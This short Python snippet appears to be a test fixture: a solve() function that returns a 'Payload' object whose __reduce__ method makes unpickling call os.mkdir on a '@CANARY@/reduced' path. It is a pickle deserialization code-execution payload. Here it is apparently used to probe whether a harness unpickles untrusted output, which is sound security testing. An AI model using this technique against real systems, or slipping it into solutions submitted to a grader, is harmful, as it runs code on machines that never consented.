import os
class Payload:
    def __reduce__(self):
        return (os.mkdir, ('@CANARY@/reduced',))
    def __reduce_ex__(self, protocol):
        return self.__reduce__()
def solve(x):
    return Payload()
